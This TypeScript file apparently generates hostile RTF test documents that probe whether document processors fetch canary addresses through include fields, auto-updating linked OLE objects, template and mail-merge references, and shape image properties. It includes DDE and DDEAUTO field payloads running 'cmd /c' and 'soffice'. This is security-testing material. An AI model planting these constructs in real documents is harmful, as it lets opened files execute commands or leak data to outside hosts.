import type { HostileDocument, HostileDocuments } from './document.js';

/** Documents in RTF. */
export const rtfDocuments: HostileDocuments = {
  'fields that include and call': (canaries) =>
    rtf(
      ['png', 'txt', 'html', 'rtf', 'odt']
        .flatMap((it) => canaries.all('rtf-field', it))
        .flatMap((it) => [
          `INCLUDEPICTURE "${it}" \\d`,
          `INCLUDEPICTURE "${it}"`,
          `INCLUDEPICTURE ${it}`,
          `INCLUDETEXT "${it}"`,
          `IMPORT "${it}"`,
          `RD "${it}"`,
          `DDEAUTO soffice "${it}" a`,
          `DDE cmd "/c ${it}" a`,
          `LINK Word.Document.8 "${it}" "" \\a`,
        ])
        .map((it) => `{\\field\\flddirty{\\*\\fldinst { ${backslashed(it)} }}{\\fldrslt before}}\\par\n`)
        .join(''),
    ),
  'linked objects': (canaries) =>
    rtf(
      ['rtf', 'xls', 'html']
        .flatMap((it) => canaries.all('rtf-object', it))
        .map(
          (it) =>
            `{\\object\\objautlink\\objupdate\\objw900\\objh900{\\*\\objclass Word.Document.8}{\\*\\objname ${backslashed(it)}}{\\*\\objdata ${oleLink(it)}}{\\result before}}\\par\n`,
        )
        .join(''),
    ),
  'a template, and its files': (canaries) =>
    rtf(
      '',
      ['dot', 'rtf', 'odt']
        .flatMap((it) => canaries.all('rtf-template', it))
        .map(
          (it) =>
            `{\\*\\template ${backslashed(it)}}{\\*\\filetbl{\\file\\fid1\\fnetwork ${backslashed(it)};}}{\\*\\nextfile ${backslashed(it)}}{\\*\\windowcaption ${backslashed(it)}}{\\*\\mailmerge{\\mmlinktoquery}{\\*\\mmconnectstrdata ${backslashed(it)}}{\\*\\mmdatasource ${backslashed(it)}}}\\subdocument1`,
        )
        .join('\n'),
    ),
  'external images of shapes': (canaries) =>
    rtf(
      canaries
        .all('rtf-shape', 'png')
        .map(
          (it) =>
            `{\\shp{\\*\\shpinst\\shpleft0\\shptop0\\shpright2000\\shpbottom2000{\\sp{\\sn shapeType}{\\sv 75}}{\\sp{\\sn pibName}{\\sv ${backslashed(it)}}}{\\sp{\\sn pibFlags}{\\sv 14}}{\\sp{\\sn fillBlipName}{\\sv ${backslashed(it)}}}{\\sp{\\sn fillType}{\\sv 2}}{\\sp{\\sn hyperlink}{\\sv {\\*\\hl{\\hlsrc ${backslashed(it)}}}}}}}`,
        )
        .join('\n'),
    ),
};

function rtf(body: string, head = ''): HostileDocument {
  return {
    extension: 'rtf',
    bytes: Buffer.from(`{\\rtf1\\ansi{\\fonttbl{\\f0 Liberation Serif;}}${head}\\pard text\\par\n${body}}`),
  };
}

function backslashed(text: string): string {
  return text.replaceAll('\\', '\\\\').replaceAll('{', '\\{').replaceAll('}', '\\}');
}

/** A linked OLE 1.0 object ([MS-OLEDS] 2.2.6) in hexadecimal digits. */
function oleLink(address: string): string {
  const number = (value: number): Buffer => {
    const bytes = Buffer.alloc(4);
    bytes.writeUInt32LE(value);
    return bytes;
  };
  const string = (text: string): Buffer => Buffer.concat([number(text.length + 1), Buffer.from(`${text}\0`, 'latin1')]);
  const parts = [
    number(0x501),
    number(1),
    string('Word.Document.8'),
    string(address),
    string(''),
    string(''),
    number(1),
    number(0),
    number(0),
  ];
  return Buffer.concat(parts).toString('hex');
}
